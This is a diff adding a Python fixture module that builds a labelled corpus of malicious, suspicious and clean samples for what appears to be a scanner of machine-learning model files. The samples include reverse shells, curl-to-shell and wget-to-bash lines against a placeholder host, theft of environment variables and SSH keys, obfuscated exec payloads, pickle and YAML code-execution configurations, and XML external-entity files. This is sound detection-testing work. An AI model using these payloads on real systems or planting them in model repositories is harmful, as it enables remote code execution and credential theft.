@@ -1,0 +1,142 @@
+"""Python beside a model, notebooks, configurations that name code, scripts, XML, and names that lie."""
+
+import base64
+import json
+import zlib
+
+from .opcodes import call, dumps
+from .registry import CLEAN, COMMAND, HOST, INCOMPLETE, MALICIOUS, SUSPICIOUS
+
+CALL = f"import os\nos.system('{COMMAND}')\n"
+ENCODED = base64.b64encode(CALL.encode()).decode()
+PACKED = base64.b64encode(zlib.compress(CALL.encode(), 9)).decode()
+TURNED = "".join(chr(ord(c) ^ 7) for c in CALL)
+
+ATTACKS = {
+    "alias": ("os.system under another name", f"import os as o\nfrom os import system as s\ns('{COMMAND}')\n"),
+    "star": ("os.system through a star import", f"from os import *\nsystem('{COMMAND}')\n"),
+    "class-body": ("a command in the body of a class", f"class Model:\n    out = __import__('os').popen('{COMMAND}')\n"),
+    "decorator": ("a command run by a decorator", f"import subprocess\n\n@subprocess.getoutput\n@(lambda f: '{COMMAND}')\ndef f(): pass\n"),
+    "called-function": ("a function with a command, called on import", f"import os\n\ndef helper():\n    os.system('{COMMAND}')\n\nhelper()\n"),
+    "atexit": ("a command handed to atexit", f"import atexit, os\natexit.register(os.system, '{COMMAND}')\n"),
+    "thread": ("a command in a thread that a constructor starts", f"import subprocess, threading\n\nclass Model:\n    def __init__(self):\n        threading.Thread(target=self._run).start()\n\n    def _run(self):\n        subprocess.Popen(['echo', 'weighin'])\n"),
+    "forward": ("a name joined from pieces in forward", f"class Model:\n    def forward(self, x):\n        getattr(__import__('o' + 's'), 'sys' + 'tem')('{COMMAND}')\n        return x\n"),
+    "namespace": ("os.system through sys.modules and a dictionary", f"import sys\nsys.modules['os'].__dict__['system']('{COMMAND}')\n"),
+    "exec-base64": ("exec of base64", f"import base64\nexec(base64.b64decode('{ENCODED}'))\n"),
+    "exec-zlib-reversed": ("exec of compressed base64 written backwards", f"_ = lambda t: __import__('zlib').decompress(__import__('base64').b64decode(t[::-1]))\nexec((_)(b'{PACKED[::-1]}'))\n"),
+    "exec-xor": ("exec of text turned character by character", f"d = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\nexec(d({TURNED!r}))\n"),
+    "exec-fetched": ("exec of what an address gives", f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/x.py').read())\n"),
+    "eval-text": ("eval of an expression that imports", f"eval(\"__import__('os').system('{COMMAND}')\")\n"),
+    "reverse-shell": ("a shell on a socket", f"import os, pty, socket\ns = socket.create_connection(('{HOST}', 9))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
+    "remote-commands": ("commands received from a socket", f"import socket, subprocess\ns = socket.socket()\ns.connect(('{HOST}', 9))\nwhile True:\n    subprocess.run(s.recv(99).decode(), shell=True)\n"),
+    "environment": ("the environment sent away", f"import json, os, requests\n\nclass Handler:\n    def initialize(self, context):\n        requests.post('http://{HOST}/', data=json.dumps(dict(os.environ)))\n"),
+    "key-file": ("a private key sent away", f"import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://{HOST}/', data=key)\n"),
+    "profile": ("a line added to a shell's profile", f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('{COMMAND}')\n"),
+    "pickle-bytes": ("pickle.loads of bytes in the source", "import base64, pickle\npickle.loads(base64.b64decode('" + base64.b64encode(dumps(call("os.system", COMMAND))).decode() + "'))\n"),
+    "ctypes-system": ("system of the C library", f"import ctypes\nctypes.CDLL(None).system(b'{COMMAND}')\n"),
+    "library-beside": ("a library beside the model, loaded on import", "import ctypes\nctypes.CDLL('./model.so')\n"),
+    "reduce": ("a class whose pickle runs a command", f"import os\n\nclass Payload:\n    def __reduce__(self):\n        return (os.system, ('{COMMAND}',))\n"),
+    "rot13": ("a source in rot13", "# -*- coding: rot13 -*-\nvzcbeg bf\n"),
+    "subclasses": ("a walk from an empty tuple to all classes", "for c in ().__class__.__base__.__subclasses__():\n    print(c)\n"),
+}
+
+HONEST = {
+    "modeling_x": ("a modeling file that evaluates and compiles", "import torch\nfrom torch import nn\n\nclass X(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.linear = nn.Linear(2, 2)\n\n    def forward(self, x):\n        self.eval()\n        return torch.compile(self.linear)(x)\n"),
+    "train": ("a training script with its commands below a main guard", "import subprocess\n\ndef main():\n    subprocess.run(['nvidia-smi'], check=False)\n\nif __name__ == '__main__':\n    main()\n"),
+    "convert": ("a conversion script that loads pickles and fetches a picture", "import pickle\n\nimport requests\nimport torch\n\ndef convert(path):\n    with open(path, 'rb') as f:\n        state = pickle.load(f)\n    requests.get('https://huggingface.co/x.png', timeout=9)\n    torch.save(state, path + '.pt')\n"),
+    "version": ("a module that asks git for its version on import", "import subprocess\n\ntry:\n    VERSION = subprocess.check_output(['git', 'describe'], text=True)\nexcept OSError:\n    VERSION = 'unknown'\n"),
+    "plugins": ("a module that imports by name and reads one variable", "import importlib\nimport os\n\nTOKEN = os.environ.get('HF_TOKEN')\n\ndef load(name):\n    return getattr(importlib.import_module('plugins.' + name), 'Plugin')\n"),
+    "static": ("a class that hands a function to staticmethod", "import os\n\ndef clear():\n    os.system('clear')\n\nclass Screen:\n    clear = staticmethod(clear)\n"),
+    "template_exec": ("a module that runs a constant of its own", "exec('def f(x): return x')\n"),
+}
+
+CONFIGURATIONS = {
+    "evil/hydra.yaml": (MALICIOUS, f"model:\n  parts:\n    - _target_: os.system\n      _args_: ['{COMMAND}']\n", "a hydra target that runs a command"),
+    "evil/hydra.json": (MALICIOUS, json.dumps({"a": [{"_target_": "builtins.exec", "_args_": ["print(1)"]}]}), "a hydra target in JSON"),
+    "evil/nested.json": (MALICIOUS, json.dumps({"a": json.dumps({"_target_": "os.system"})}), "a hydra target in JSON in a string"),
+    "evil/apply.yaml": (MALICIOUS, f"x: !apply:os.system ['{COMMAND}']\n", "a HyperPyYAML tag that runs a command"),
+    "evil/new.yaml": (MALICIOUS, "a: !!python/object/new:subprocess.Popen [[echo]]\n", "a PyYAML tag that starts a program"),
+    "evil/name.yaml": (MALICIOUS, "a: !!python/name:os.system ''\n", "a PyYAML tag that names a function"),
+    "evil/class_path.yaml": (MALICIOUS, "model: {class_path: subprocess.Popen, init_args: {args: [echo]}}\n", "a jsonargparse class that starts a program"),
+    "evil/jsonpickle.json": (MALICIOUS, json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}), "a jsonpickle document that runs a command"),
+    "evil/serialized.json": (MALICIOUS, json.dumps({"policy": {":serialized:": base64.b64encode(dumps(call("os.system", COMMAND))).decode()}}), "a pickle in base64 in JSON, as stable-baselines3 keeps it"),
+    "evil/function.yaml": (SUSPICIOUS, "x: {_target_: weighin_payload.tools.run}\n", "a hydra target that is an unknown function"),
+    "evil/expression.json": (SUSPICIOUS, json.dumps({"hook": f"__import__('os').system('{COMMAND}')"}), "an expression that imports and calls, as a value"),
+    "evil/trusted.json": (CLEAN, json.dumps({"trust_remote_code": True}), "a configuration that asks to be trusted"),
+    "remote/config.json": (SUSPICIOUS, json.dumps({"auto_map": {"AutoModel": "other/repository--modeling.X"}}), "code from another repository"),
+    "outside/model.safetensors.index.json": (MALICIOUS, json.dumps({"weight_map": {"w": "../../other/model.safetensors"}}), "a shard outside the folder"),
+    "honest/nemo.yaml": (CLEAN, "model:\n  encoder: {_target_: nemo.collections.asr.modules.ConformerEncoder}\n  optim: {_target_: torch.optim.AdamW}\n  tokenizer: {_target_: transformers.AutoTokenizer.from_pretrained, pretrained_model_name_or_path: x}\n  path: {_target_: pathlib.Path, _args_: [a]}\n", "a NeMo configuration"),
+    "honest/speechbrain.yaml": (CLEAN, "seed: 1\n__seed: !apply:torch.manual_seed [!ref <seed>]\nact: !name:torch.nn.LeakyReLU\nenc: !new:speechbrain.lobes.features.Fbank\n    n_mels: 80\n", "a speechbrain configuration"),
+    "honest/lightning.yaml": (CLEAN, "trainer:\n  callbacks:\n    - class_path: lightning.pytorch.callbacks.EarlyStopping\nmodel: {class_path: my_project.models.Lit, init_args: {lr: 0.1}}\n", "a Lightning configuration"),
+    "honest/dump.yaml": (CLEAN, "args: !!python/object:argparse.Namespace {lr: 0.1}\nsize: !!python/tuple [1, 2]\n", "arguments dumped by PyYAML"),
+    "honest/config.json": (CLEAN, json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}, "id2label": {"0": "os.system"}}), "a configuration with code of its own"),
+    "mlflow-os/MLmodel": (MALICIOUS, "flavors:\n  python_function:\n    loader_module: os\n", "an MLflow model whose loader is os"),
+    "evil/date.yaml": (SUSPICIOUS, "x: {_target_: colorsys.rgb_to_hsv}\n", "a hydra target in the standard library"),
+    "evil/file.yaml": (MALICIOUS, "x: {_target_: shutil.rmtree, path: weighin}\n", "a hydra target that removes files"),
+    "evil/object.yaml": (MALICIOUS, "x: !!python/object:colorsys.rgb_to_hsv {}\n", "a PyYAML tag that constructs an object of the standard library"),
+    "evil/function.json": (SUSPICIOUS, json.dumps({"py/function": "weighin_payload.run", "py/reduce": [{"py/function": "weighin_payload.run"}, {"py/tuple": []}]}), "a jsonpickle document that calls an unknown function"),
+    "mlflow/MLmodel": (SUSPICIOUS, "flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n", "an MLflow model with a loader of its own"),
+}
+
+
+def notebook(*cells):
+    """A notebook of these code cells."""
+    cells = [{"cell_type": "code", "source": cell, "outputs": [], "metadata": {}, "execution_count": None} for cell in cells]
+    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+def documents(corpus):
+    """Notebooks, scripts, package lists, XML."""
+    corpus.add("notebook/fetch-run.ipynb", MALICIOUS, notebook(f"!curl http://{HOST}/x | sh\n"), "a cell that pipes an open address to a shell", "running the notebook runs it")
+    corpus.add("notebook/exec.ipynb", MALICIOUS, notebook("import base64\n", f"exec(base64.b64decode('{ENCODED}'))"), "cells that run decoded text", "imports of one cell count in the next")
+    corpus.add("notebook/unusual.ipynb", SUSPICIOUS, notebook("import os\nos.system('weighin-tool')"), "a cell that starts an unusual program", "nobody knows what it does")
+    corpus.add("notebook/honest.ipynb", CLEAN, notebook("%matplotlib inline\n!pip install torch\nimport os\nos.system('nvidia-smi')\nfiles = !ls\n", "%%bash\ncurl -fsSL https://example.com/install.sh | sh\n", "model.eval()\ndf.head?\n"), "an honest notebook with magics", "installing and looking around is what notebooks do")
+    corpus.add("notebook/script-output.ipynb", CLEAN, json.dumps({"cells": [{"cell_type": "code", "source": ["1"], "metadata": {}, "outputs": [{"data": {"text/html": ["<script>1</script>"]}}]}], "metadata": {}, "nbformat": 4}), "an output with a script", "plots have them")
+    corpus.add("script/model.bin", MALICIOUS, f"#!/bin/sh\n{COMMAND}\n", "a shell script named like a model", "whoever runs it runs commands")
+    corpus.add("script/hostile.sh", MALICIOUS, f"#!/bin/bash\nbash -i >& /dev/tcp/{HOST}/9 0>&1\n", "a script that hands a shell away", "nothing else does this")
+    corpus.add("script/fetch-run.sh", MALICIOUS, f"#!/bin/sh\nwget -qO- http://{HOST}/x | bash\n", "a script that runs what an open address gives", "anyone in between decides")
+    corpus.add("script/honest.sh", CLEAN, "#!/bin/bash\nset -e\npip install -r requirements.txt\nexport PATH=$PATH:$HOME/.local/bin\npython train.py\n", "an honest script", "installs and trains")
+    corpus.add("requirements/evil/requirements.txt", SUSPICIOUS, f"--index-url http://{HOST}/simple\nweighin\n", "another index", "whoever owns it owns the machine")
+    corpus.add("requirements/honest/requirements.txt", CLEAN, "torch>=2.0\ngit+https://github.com/huggingface/peft.git@main\n--extra-index-url https://download.pytorch.org/whl/cu121\n", "an honest list", "repositories and a framework's index")
+    corpus.add("xml/external.pmml", MALICIOUS, f"<?xml version=\"1.0\"?>\n<!DOCTYPE PMML [<!ENTITY % r SYSTEM \"http://{HOST}/e.dtd\"> %r;]><PMML version=\"4.4\"/>", "an external entity", "parsing it opens an address")
+    corpus.add("xml/include.pmml", MALICIOUS, '<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hostname" parse="text"/></PMML>', "an inclusion", "parsing it opens a file")
+    corpus.add("xml/entities.pmml", SUSPICIOUS, '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><PMML version="4.4"><Header name="&b;"/></PMML>', "entities of its own", "they grow without bound")
+    corpus.add("xml/extension-script.pmml", MALICIOUS, '<?xml version="1.0"?><PMML version="4.4"><Header><Extension name="x" value="Runtime.getRuntime().exec(1)"/></Header></PMML>', "an extension with code", "an engine may evaluate it")
+    corpus.add("xml/library.xml", MALICIOUS, '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="Custom" library="./libx.so"/></layers></net>', "a layer from a library", "loading it runs the library")
+    corpus.add("xml/honest.pmml", CLEAN, '<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Extension name="x" value="1"/></Header><DataDictionary/></PMML>', "an honest model", "extensions are normal")
+    corpus.add("xml/honest.xml", CLEAN, '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="Const"><data offset="0" size="40"/></layer></layers></net>', "an honest OpenVINO network", "layers of the standard set")
+    corpus.add("xml/picture.svg", CLEAN, '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>', "a vector picture", "its document type is known")
+
+
+def names(corpus):
+    """Names that promise something else than the content is."""
+    payload = dumps(call("os.system", COMMAND))
+    for ending in ("safetensors", "gguf", "onnx", "json", "png"):
+        corpus.add(f"name/pickle-as-{ending}/model.{ending}", MALICIOUS, payload, f"a pickle named .{ending}", "names are trusted")
+    corpus.add("name/plain-pickle-as/model.safetensors", MALICIOUS, b"\x80\x04\x95\x06\x00\x00\x00\x00\x00\x00\x00}\x94(K\x01u.", "a harmless pickle named .safetensors", "no framework writes one")
+    corpus.add("name/text-as/model.safetensors", INCOMPLETE, "Not found\n", "an error message named .safetensors", "the model is not there")
+    corpus.add("name/java-as/data.json", SUSPICIOUS, b"\xac\xed\x00\x05sr\x00\x0ejava.io.Sample\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00xp", "a Java object stream named .json", "a reader may construct it")
+    corpus.add("java/gadget.ser", SUSPICIOUS, b"\xac\xed\x00\x05sr\x00\x2aorg.apache.commons.collections.map.LazyMap1\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00xp", "a Java object of a known gadget's package", "reading it may run commands")
+    corpus.add("java/plain.model", CLEAN, b"\xac\xed\x00\x05sr\x00\x12weka.core.MyObject\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00xp", "a Java object of a toolkit", "Weka keeps models this way")
+    corpus.add("empty/__init__.py", CLEAN, b"", "an empty package marker", "usual")
+    corpus.add("empty/model.safetensors", INCOMPLETE, b"", "an empty model", "there should be content")
+    corpus.add("lfs/model.dvc", INCOMPLETE, "outs:\n- md5: 0123\n  path: model.bin\n", "a DVC file", "the content is elsewhere")
+    corpus.add("lfs/model.bin.incomplete", INCOMPLETE, b"\x00\x01\x02", "an unfinished download", "the content is not whole")
+
+
+def add_samples(corpus):
+    """All of them."""
+    for name, (what, source) in ATTACKS.items():
+        corpus.add(f"python/{name}/modeling_x.py", MALICIOUS, source, f"a modeling file: {what}", "code beside the model runs when it is trusted")
+    corpus.add("python/hubconf/hubconf.py", MALICIOUS, f"import os\n\ndef model():\n    os.system('{COMMAND}')\n", "an entry point of torch.hub that runs a command", "torch.hub calls it")
+    corpus.add("python/setup/setup.py", MALICIOUS, f"import os\nos.system('{COMMAND}')\n", "a setup script that runs a command", "installing runs it")
+    corpus.add("python/network/modeling_x.py", SUSPICIOUS, f"import requests\nrequests.post('https://{HOST}/')\n", "a modeling file that uses the network on import", "someone is told who loads the model")
+    corpus.add("python/exec-unknown/modeling_x.py", SUSPICIOUS, "import sys\nexec(sys.argv[1])\n", "a modeling file that runs text that is not known", "nobody can read it")
+    corpus.add("python/codec/modeling_x.py", INCOMPLETE, "# coding: weighin_codec\nx = 1\n", "a source in an unknown codec", "what Python reads is not what stands there")
+    corpus.add("python/deep/modeling_x.py", INCOMPLETE, "x = " + "(" * 9000 + "1" + ")" * 9000 + "\n", "a source that nests too deep", "it can't be parsed in bounds")
+    for name, (what, source) in HONEST.items():
+        corpus.add(f"python/honest/{name}.py", CLEAN, source, what, "an honest file beside a model")
+    for path, (verdict, text, what) in CONFIGURATIONS.items():
+        corpus.add(f"config/{path}", verdict, text, what, "loaders do what configurations say")
+    documents(corpus)
+    names(corpus)
